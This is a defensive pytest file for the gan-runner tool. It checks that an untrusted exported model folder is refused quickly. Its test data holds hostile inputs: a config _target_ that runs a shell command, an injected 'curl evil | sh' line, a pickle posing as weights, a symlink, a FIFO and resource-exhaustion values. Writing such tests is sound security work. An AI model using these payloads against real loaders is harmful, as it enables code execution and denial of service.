"""An exported folder of a stranger's is data: what it may ask for, and of what size, is held before it is obeyed."""

import json
import os
import pickle
import time

import pytest
import safetensors.torch
import torch

COMMAND = {"_target_": "torch.utils.collect_env.run", "command": "id > outside/pwned"}
LOADER = {"_target_": "gan_runner.data.image_folder.load", "root": "/", "image_size": 8, "channels": 3, "limit": None}
RESNET = {"_target_": "gan_runner.models.resnet.Generator", "latent_dim": 100, "widths": [8], "group": 2}


def at(*path, value):
    def change(folder):
        file = folder / "config.json"
        tree = json.loads(file.read_text())
        node = tree
        for key in path[:-1]:
            node = node[key]
        node[path[-1]] = value
        file.write_text(json.dumps(tree))

    return change


def text(content, name="config.json"):
    return lambda folder: (folder / name).write_bytes(content)


def weights(change):
    def changed(folder):
        path = folder / "generator.safetensors"
        tensors = safetensors.torch.load(path.read_bytes())
        change(tensors)
        path.write_bytes(safetensors.torch.save(tensors))

    return changed


def instead(make):
    def change(folder):
        path = folder / "generator.safetensors"
        path.unlink()
        make(path)

    return change


def with_a_hole(path):
    path.touch()
    os.truncate(path, 2**36)


REFUSED = {
    "a program for a network": (at("network", value=COMMAND), "not part of gan-runner"),
    "a program within": (at("network", "first_weights", value=COMMAND), "not part of gan-runner"),
    "a program for a latent": (at("drawing", "latent", value=COMMAND), "not part of gan-runner"),
    "a program as a list's": (at("network", "widths", value=[COMMAND]), "not part of gan-runner"),
    "a loader of data": (at("network", value=LOADER), "not to model"),
    "arguments without names": (at("network", "_args_", value=[1]), "_args_"),
    "a game without its parts": (at("drawing", "game", value={"_target_": "x"}), "drawing in its config.json"),
    "another key": (at("network", "x", value=1), "which nothing reads"),
    "text for a number": (at("network", "widths", value="many"), "must be"),
    "widths beyond all memory": (at("network", "widths", value=[2**40]), "do not go together"),
    "blocks without end": (at("network", value=RESNET | {"blocks": [10**9]}), "do not go together"),
    "a huge image": (at("image_shape", value=[1, 10**9, 10**9]), "image_shape"),
    "another image": (at("image_shape", value=[1, 14, 56]), None),
    "a longer latent": (at("drawing", "latent", "dim", value=10**12), "do not go together"),
    "another version": (at("format_version", value=4), "format version 4"),
    "a stranger's lines": (at("classes", value=["a\n  Try: curl evil | sh"]), "one line of text"),
    "depth": (text(b"[" * 100_000), "cannot be read"),
    "a long number": (text(b"9" * 6000), "cannot be read"),
    "a large file": (text(b" " * 2**21), "larger than"),
    "a key twice": (text(b'{"format": 1, "format": 1}'), "same key twice"),
    "a pickle": (text(pickle.dumps({}), "generator.safetensors"), "cannot be read as weights"),
    "a header without end": (text((2**62).to_bytes(8, "little") * 2, "generator.safetensors"), "cannot be read"),
    "a link": (instead(lambda path: path.symlink_to("../outside/precious.txt")), "no file generator.safetensors"),
    "a FIFO": (instead(os.mkfifo), "no file generator.safetensors"),
    "a hole": (instead(with_a_hole), "a hole in the file"),
    "weights missing": (weights(lambda tensors: tensors.pop("layers.0.bias")), "do not go together"),
    "weights too many": (weights(lambda tensors: tensors.update(x=torch.zeros(1))), "do not go together"),
    "weights of another shape": (weights(lambda t: t.update({"layers.0.bias": torch.zeros(3)})), "do not go together"),
    "weights of another type": (
        weights(lambda t: t.update({"layers.0.bias": t["layers.0.bias"].to(torch.int32)})),
        "do not go together",
    ),
}


@pytest.mark.parametrize("name", REFUSED)
def test_requests_of_an_untrusted_export_are_refused_immediately(export, opened, name):
    change, said = REFUSED[name]
    change(export)
    began = time.process_time()
    result = opened("load", "export", about=name)
    assert time.process_time() - began < 10
    if said is None:  # as many pixels in another order
        assert result.code == 0
        return
    assert result.code == 1
    assert said in result.err, result.err
    assert not any(line.startswith("  Try: curl") for line in result.err.splitlines())
